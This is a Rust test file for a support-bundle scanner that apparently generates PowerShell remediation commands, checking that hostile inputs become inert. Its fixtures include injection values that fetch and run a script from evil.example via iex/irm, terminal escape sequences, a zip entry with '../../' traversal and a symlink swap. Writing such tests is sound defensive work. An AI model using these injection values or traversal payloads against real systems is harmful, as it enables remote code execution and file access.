//! An attacker controls a file in a customer's bundle, or a rule pack a user was sent. Nothing
//! they write may become code in a suggested command, escape redaction, crash or stall the
//! loader, reach the terminal raw, or bring a file from outside the scanned folder into the
//! report.

use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::Value;

mod common;
use common::{ccdiag, scan, write, zip_of};

fn json(dir: &Path, extra: &[&str]) -> Value {
    serde_json::from_str(&scan(dir, "json", extra)).unwrap()
}

/// Every command of a rule's finding in the JSON report.
fn commands(report: &Value, rule: &str) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == rule)
        .flat_map(|f| f["remediation"].as_array().unwrap().clone())
        .filter_map(|s| s["command"].as_str().map(str::to_owned))
        .collect()
}

const SINGLE_QUOTES: [char; 5] = ['\'', '\u{2018}', '\u{2019}', '\u{201A}', '\u{201B}'];

/// The PowerShell verbatim string literal at the start of `text` (language specification
/// 2.3.5.2): the value and where the literal ends.
fn verbatim(text: &str) -> Option<(String, usize)> {
    let mut chars = text.char_indices().peekable();
    if !SINGLE_QUOTES.contains(&chars.next()?.1) {
        return None;
    }
    let mut value = String::new();
    while let Some((i, c)) = chars.next() {
        if !SINGLE_QUOTES.contains(&c) {
            value.push(c);
        } else if let Some(&(_, next)) = chars.peek().filter(|(_, n)| SINGLE_QUOTES.contains(n)) {
            value.push(next);
            chars.next();
        } else {
            return Some((value, i + c.len_utf8()));
        }
    }
    None
}

/// The argument after `parameter` in `command` must be one literal holding `value`, followed
/// by a space or the end.
fn assert_argument_is_literal(command: &str, parameter: &str, value: &str) {
    let at = command.find(parameter).unwrap_or_else(|| panic!("no {parameter} in {command}")) + parameter.len();
    let (read, len) = verbatim(&command[at..]).unwrap_or_else(|| panic!("not a literal after {parameter}: {command}"));
    assert_eq!(read, value, "{command}");
    assert!(command[at + len..].is_empty() || command[at + len..].starts_with([' ', '\n']), "{command}");
}

const EVIL_COMPUTER: &str = "MS1; iex (irm http://evil.example/p.ps1) #";
const EVIL_VM: &str = "2.1.0.0-CMS'; iex (irm http://evil.example/q.ps1); '";
const EVIL_USER: &str = "ken\u{201B}; Start-Process calc; \u{201B}";

fn injection_bundle(dir: &Path) {
    let service = serde_json::json!([{"Name": "RTCSRV", "Status": 1, "StartType": 2, "PSComputerName": EVIL_COMPUTER}]);
    write(dir, "host/Get-Service.json", service.to_string());
    // In a bundle of its own: a VM that is off explains stopped services (CCE101 would be
    // shown under CCE102, without steps of its own).
    let vm = serde_json::json!([{"Name": EVIL_VM, "State": 3}]);
    write(dir, "vm/Get-VM.json", vm.to_string());
    write(
        dir,
        "host/console.txt",
        format!(
            "PS C:\\> $session = New-CsOnlineSession -Credential $cred\n\
             Get-CsWebTicket : Logon failed for the user '{EVIL_USER}'. Please create a new PSCredential object, making sure that you have used the correct user name and password.\n\
             At line:1 char:12\n\
             + $session = New-CsOnlineSession -Credential $cred\n\
             + ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~\n\
             \x20   + CategoryInfo          : NotSpecified: (:) [Get-CsWebTicket], InvalidOperationException\n\
             \x20   + FullyQualifiedErrorId : System.InvalidOperationException,Microsoft.Rtc.Management.OnlineConnector.GetWebTicketCmdlet\n"
        ),
    );
}

#[test]
fn values_from_inputs_enter_commands_only_as_literals() {
    let dir = tempfile::tempdir().unwrap();
    injection_bundle(dir.path());
    let report = json(&dir.path().join("host"), &[]);

    let cce101 = commands(&report, "CCE101");
    assert!(!cce101.is_empty(), "CCE101 fired");
    assert_argument_is_literal(&cce101[0], "-ComputerName ", EVIL_COMPUTER);
    assert_argument_is_literal(&cce101[0], "-ArgumentList ", "RTCSRV");

    let cce102 = commands(&json(&dir.path().join("vm"), &[]), "CCE102");
    assert_argument_is_literal(&cce102[0], "Start-VM -Name ", EVIL_VM);

    let sfb005 = commands(&report, "SFB005");
    assert_argument_is_literal(&sfb005[0], "Get-Credential ", EVIL_USER);

    // The same commands, the same way, in every format (HTML escapes them for the page, and a
    // browser shows and copies `&#39;` as `'`).
    let quoted_vm = "Start-VM -Name '2.1.0.0-CMS''; iex (irm http://evil.example/q.ps1); '''";
    for format in ["text", "markdown", "sarif", "json", "html"] {
        let out = scan(dir.path(), format, &[]);
        let shown = if format == "html" { out.replace("&#39;", "'").replace("&quot;", "\"") } else { out };
        assert!(shown.contains(quoted_vm), "{format} lacks {quoted_vm}");
        assert!(!shown.contains("Start-VM -Name '2.1.0.0-CMS'; iex"), "{format} carries the injection");
        assert!(!shown.contains("-ComputerName MS1; iex"), "{format} carries the injection");
    }
}

#[test]
fn a_value_that_cannot_be_made_safe_is_left_out_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    let vm = serde_json::json!([{"Name": "2.1.0.0-CMS\nStart-Process calc", "State": 3}]);
    write(dir.path(), "Get-VM.json", vm.to_string());
    let report = json(dir.path(), &[]);
    let finding = report["findings"].as_array().unwrap().iter().find(|f| f["rule_id"] == "CCE102").unwrap();
    let start = &finding["remediation"][0];
    assert_eq!(start["command"], "Start-VM -Name <Name>");
    assert!(start["note"].as_str().unwrap().contains("line break"), "{start}");
    let text = scan(dir.path(), "text", &[]);
    assert!(text.contains("note: the value of `Name` was left out because it holds a line break"), "{text}");
}

#[test]
fn redaction_finds_values_by_their_shape() {
    let dir = tempfile::tempdir().unwrap();
    // Each line is an error record's message, so it is evidence of SFB003 and its excerpt is
    // printed; none of these values may come out in clear.
    let lines = [
        "\u{1b}[31m10.99.88.78",
        "\u{1b}[1mCONTOSO\\svc2",
        "Server_10.20.30.43_x",
        "ip10.20.30.48",
        "10.20.30.54ms",
        "\u{1b}[4mjane.doe@contoso.com",
        "FABRIKAM\\kim.akers",
    ];
    let record = |line: &str| {
        format!(
            "Get-CsWebTicket : Failed to connect live id servers. Make sure proxy is enabled or machine has network connection to live id servers. {line}\n\
             At line:1 char:1\n+ Get-CsWebTicket\n+ ~~~~~~~~~~~~~~~\n\
             \x20   + CategoryInfo          : NotSpecified: (:) [Get-CsWebTicket], InvalidOperationException\n\
             \x20   + FullyQualifiedErrorId : System.InvalidOperationException,Microsoft.Rtc.Management.OnlineConnector.GetWebTicketCmdlet\n\n"
        )
    };
    let text: String = lines.iter().map(|line| record(line)).collect();
    write(dir.path(), "console.txt", &text);
    let report = scan(dir.path(), "json", &["--redact"]);
    for secret in
        ["10.99.88.78", "svc2", "10.20.30.43", "10.20.30.48", "10.20.30.54", "jane.doe", "4mjane", "kim.akers"]
    {
        assert!(!report.contains(secret), "{secret} is in clear");
    }
    assert!(report.contains("\\u001b[4muser-"), "the escape stays and the name after it is replaced");
    // Paths and built-in accounts are not accounts.
    for kept in
        ["C:\\Windows\\System32", "NT AUTHORITY\\SYSTEM", "CloudConnector\\module.ini", "HKLM\\SOFTWARE\\Microsoft"]
    {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "console.txt", record(kept));
        let report = scan(dir.path(), "text", &["--redact"]);
        assert!(report.contains(kept), "{kept} was redacted: {report}");
    }
}

fn rule_pack(dir: &Path, detection: &str, extra: &str) {
    write(
        dir,
        "X001-x.yaml",
        format!(
            "id: X001\nname: x\ntitle: t\nseverity: error\nsources: [text]\ndocs: {{what: w, why: y}}\n\
             detection:\n{detection}\nremediation:\n  - text: fix\n{extra}"
        ),
    );
}

/// A hostile pack ends as exit 2 with a diagnostic, in seconds.
fn assert_load_error(pack: &Path, expected: &str) {
    let started = Instant::now();
    let output = ccdiag(&["rules", "list", "--rules", pack.to_str().unwrap()]);
    assert!(started.elapsed() < Duration::from_secs(20), "loading took {:?}", started.elapsed());
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
    // miette wraps long messages and draws a border in front of the wrapped part.
    let stderr = String::from_utf8_lossy(&output.stderr).replace('\u{2502}', " ");
    let flat = stderr.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains(expected), "{stderr}");
}

#[test]
fn hostile_rule_packs_are_load_errors() {
    let dir = tempfile::tempdir().unwrap();
    let parens = format!("  sel:\n    line: a\n  condition: '{}sel{}'", "(".repeat(30_000), ")".repeat(30_000));
    rule_pack(dir.path(), &parens, "");
    assert_load_error(dir.path(), "nested deeper than 64");

    let nots = format!("  sel:\n    line: a\n  condition: '{}sel'", "not ".repeat(30_000));
    rule_pack(dir.path(), &nots, "");
    assert_load_error(dir.path(), "nested deeper than 64");

    // 95 000 literals do not fit in a rule file; 5 000 do, but not in one matcher.
    let many: String = (0..95_000).map(|i| format!("      - literal{i:06}\n")).collect();
    rule_pack(dir.path(), &format!("  sel:\n    line|contains:\n{many}  condition: sel"), "");
    assert_load_error(dir.path(), "a rule file is at most");
    rule_pack(dir.path(), &format!("  sel:\n    line|contains:\n{}  condition: sel", &many[..many.len() / 19]), "");
    assert_load_error(dir.path(), "a matcher takes at most 1000");

    let thousand: String = (0..1000).map(|i| format!("      - literal{i:06}\n")).collect();
    let spread: String = (0..5).map(|s| format!("  sel{s}:\n    line|contains:\n{thousand}")).collect();
    rule_pack(dir.path(), &format!("{spread}  condition: 1 of sel*"), "");
    assert_load_error(dir.path(), "a rule takes at most 4000");

    rule_pack(dir.path(), "  sel:\n    line: a\n  condition: sel", "");
    let text =
        std::fs::read_to_string(dir.path().join("X001-x.yaml")).unwrap().replace("title: t", "title: \"a\u{1b}[2J\"");
    write(dir.path(), "X001-x.yaml", &text);
    assert_load_error(dir.path(), "U+001B is not allowed in a rule file");

    rule_pack(dir.path(), "  sel:\n    line: a\n  condition: sel", "");
    let text = std::fs::read_to_string(dir.path().join("X001-x.yaml")).unwrap().replace("name: x", "name: \"x\\e[2J\"");
    write(dir.path(), "X001-x.yaml", &text);
    assert_load_error(dir.path(), "a rule name is kebab-case");

    let quoted = "  sel:\n    line: a\n  condition: sel";
    rule_pack(dir.path(), quoted, "  - text: start it\n    command: Start-VM -Name '{Name}'\n");
    assert_load_error(dir.path(), "remove the quotes around it");
}

#[test]
fn rule_text_reaches_the_terminal_escaped() {
    let dir = tempfile::tempdir().unwrap();
    // Escapes written as YAML escapes: the file itself is clean text, its values are not.
    rule_pack(
        dir.path(),
        "  sel:\n    line|contains: zzqq-marker\n  condition: sel",
        "references:\n  - {article: \"a\\e]8;;http://evil.example\\a\", section: \"s\\u202e\"}\n",
    );
    let text = std::fs::read_to_string(dir.path().join("X001-x.yaml")).unwrap();
    let text = text.replace("title: t", "title: \"evil \\e[2J\\a title\"").replace("what: w", "what: \"w\\e[31m\"");
    write(dir.path(), "X001-x.yaml", &text);
    let bundle = tempfile::tempdir().unwrap();
    write(bundle.path(), "notes.txt", "zzqq-marker\n");
    let pack = dir.path().to_str().unwrap();
    let explained = ccdiag(&["rules", "explain", "X001", "--rules", pack]);
    let listed = ccdiag(&["rules", "list", "--rules", pack]);
    let report = ccdiag(&["scan", bundle.path().to_str().unwrap(), "--rules", pack, "--fail-on", "never"]);
    for output in [explained, listed, report] {
        let out = String::from_utf8(output.stdout).unwrap();
        assert!(out.contains("X001"), "{out}");
        assert!(!out.chars().any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{202e}'), "raw control in {out}");
    }
}

#[cfg(unix)]
#[test]
fn a_file_swapped_for_a_link_after_the_walk_is_not_read() {
    use ccdiag::input::{discover, limits::Limits};
    use ccdiag::scan::{self, ScanOptions};

    let outside = tempfile::tempdir().unwrap();
    let secret = "Import-Module : The specified module 'CloudConnector' was not loaded because no valid module file was found in any module directory.\n";
    write(outside.path(), "secret.txt", secret);
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "console.txt", "nothing to see\n");

    let limits = Limits::default();
    let sources = discover::discover(&[dir.path().to_str().unwrap().to_owned()], &limits, std::io::empty());
    // Between the walk and the read, the file becomes a link out of the scanned folder.
    std::fs::remove_file(dir.path().join("console.txt")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), dir.path().join("console.txt")).unwrap();

    let engine = common::engine();
    let scan = scan::scan(&engine, &sources, &ScanOptions::default());
    let input = scan.inputs.iter().find(|i| i.path == "console.txt").unwrap();
    assert!(input.problems.iter().any(|p| p.message.contains("replaced")), "{:?}", input.problems);
    assert_eq!(input.records, 0);
    assert!(scan.outcomes.iter().all(|o| o.count == 0), "the outside file was read");
}

#[test]
fn every_copy_of_a_name_in_a_zip_is_read() {
    let evidence = b"Import-Module : The specified module 'CloudConnector' was not loaded because no valid module file was found in any module directory.\n";
    // Written under two names of the same length, then made one name, offsets unchanged.
    let mut bytes = zip_of_stored(&[("Get-Service.txt", evidence), ("Get-Sarvice.txt", b"all fine\n")]);
    let (wrong, right) = (b"Get-Sarvice.txt", b"Get-Service.txt");
    for at in (0..bytes.len() - wrong.len()).rev() {
        if &bytes[at..at + wrong.len()] == wrong {
            bytes[at..at + wrong.len()].copy_from_slice(right);
        }
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("bundle.zip"), &bytes).unwrap();
    let report = json(dir.path(), &[]);
    let inputs = report["inputs"].as_array().unwrap();
    let paths: Vec<&str> = inputs.iter().map(|i| i["path"].as_str().unwrap()).collect();
    assert!(paths.contains(&"bundle.zip/Get-Service.txt (copy 1 of 2)"), "{paths:?}");
    assert!(paths.contains(&"bundle.zip/Get-Service.txt"), "{paths:?}");
    let zip = inputs.iter().find(|i| i["path"] == "bundle.zip").unwrap();
    assert!(zip["problems"][0]["message"].as_str().unwrap().contains("`Get-Service.txt` 2 times"), "{zip}");
    assert!(
        report["findings"].as_array().unwrap().iter().any(|f| f["rule_id"] == "CCE221"),
        "the first copy is evidence"
    );
}

#[test]
fn sarif_paths_never_step_out_of_the_scanned_folder() {
    let evidence = b"Import-Module : The specified module 'CloudConnector' was not loaded because no valid module file was found in any module directory.\n";
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("bundle.zip"), zip_of_stored(&[("../../evil.txt", evidence)])).unwrap();
    let sarif = scan(dir.path(), "sarif", &[]);
    assert!(sarif.contains("bundle.zip/%2E%2E/%2E%2E/evil.txt"), "{sarif}");
    assert!(!sarif.contains("/../"), "{sarif}");
}

#[test]
fn absurd_dates_are_problems_not_expired_certificates() {
    for not_after in ["12/31/99999 11:59:59 PM", "2027-01-12T09:24:06+99:00", "2027-02-30 10:00:00"] {
        let dir = tempfile::tempdir().unwrap();
        write(
            dir.path(),
            "Get-ChildItem-Cert.txt",
            format!(
                "\nSubject    : CN=CCE-CMS.cce.contoso.local\nIssuer     : CN=cce-CCEDC-CA, DC=cce, DC=contoso, DC=local\n\
                 Thumbprint : 0C2F1A9B7E3D5C4A8B6F0E1D2C3B4A5968778695\nNotBefore  : 1/12/2025 9:24:06 AM\nNotAfter   : {not_after}\n\n"
            ),
        );
        let report = json(dir.path(), &["--now", "2026-12-01T00:00:00Z"]);
        assert!(report["findings"].as_array().unwrap().is_empty(), "{not_after}: {report}");
        let problems = report["inputs"][0]["problems"].to_string();
        assert!(problems.contains("is not a date Windows writes"), "{not_after}: {problems}");
    }
}

fn zip_of_stored(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_of(entries, zip::CompressionMethod::Stored)
}
